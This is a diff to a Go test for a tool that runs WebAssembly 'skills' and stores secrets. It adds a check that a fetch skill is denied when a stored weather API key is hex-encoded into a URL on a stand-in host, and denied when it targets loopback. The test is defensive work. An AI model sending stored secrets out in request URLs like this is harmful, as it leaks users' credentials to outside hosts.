@@ -71,6 +71,14 @@ func TestSecretCommands(t *testing.T) {
 			t.Errorf("%s: exit code %d, %q", tc.args, code, out)
 		}
 	}
+	// A stored value does not leave by a skill; another call of the same skill is not held up by that.
+	url := "https://a.example.com/?k=" + hex.EncodeToString([]byte(weatherKey))
+	for arg, code := range map[string]int{url: exitDenied, "https://127.0.0.1/": exitDenied} {
+		out, got := run("", "skill", "call", filepath.Join(s.plugins, "fetch.wasm"), "fetch", fmt.Sprintf(`{"url":%q}`, arg), "--grant", "public_web")
+		if held := strings.Contains(out, "holds a secret of the host"); got != code || held != (arg == url) {
+			t.Errorf("skill call: exit code %d: %s", got, out)
+		}
+	}
 	out, _ := run("", "secret", "list", "--json")
 	var list []map[string]any
 	if err := json.Unmarshal([]byte(out), &list); err != nil || len(list) != 5 || len(list[0]) != 4 {
